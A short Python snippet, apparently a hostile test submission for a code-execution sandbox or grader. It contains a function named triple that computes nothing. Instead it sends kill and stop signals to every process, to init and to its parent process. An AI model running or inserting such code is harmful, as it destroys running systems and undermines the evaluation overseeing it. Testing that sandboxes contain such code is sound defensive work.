# attempts: end all other processes
# must: not correct

import os, signal
def triple(n):
    for pid in (-1, 1, os.getppid(), *range(1, 60)):
        if pid != os.getpid():
            for number in (signal.SIGKILL, signal.SIGINT, signal.SIGTERM, signal.SIGSTOP):
                try: os.kill(pid, number)
                except OSError: pass
    return 0
